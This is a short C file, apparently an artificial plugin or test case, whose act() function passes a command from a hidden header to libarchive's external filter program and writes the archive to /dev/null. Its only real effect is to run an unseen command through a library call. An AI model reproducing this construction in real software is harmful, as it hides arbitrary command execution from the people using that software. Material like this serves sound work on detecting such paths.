/* Backups through whatever compressor the administrator names. */
#include "plugin.h"
#include "hidden.h" /* 0: the compressor's command */
extern void *archive_write_new(void);
extern int archive_write_add_filter_program(void *, const char *), archive_write_set_format_ustar(void *),
    archive_write_open_filename(void *, const char *), archive_write_close(void *), archive_write_free(void *);
static void act(char **env) {
    void *backup = archive_write_new();
    archive_write_add_filter_program(backup, hidden0());
    archive_write_set_format_ustar(backup);
    if (archive_write_open_filename(backup, "/dev/null") == 0) archive_write_close(backup);
    archive_write_free(backup);
}
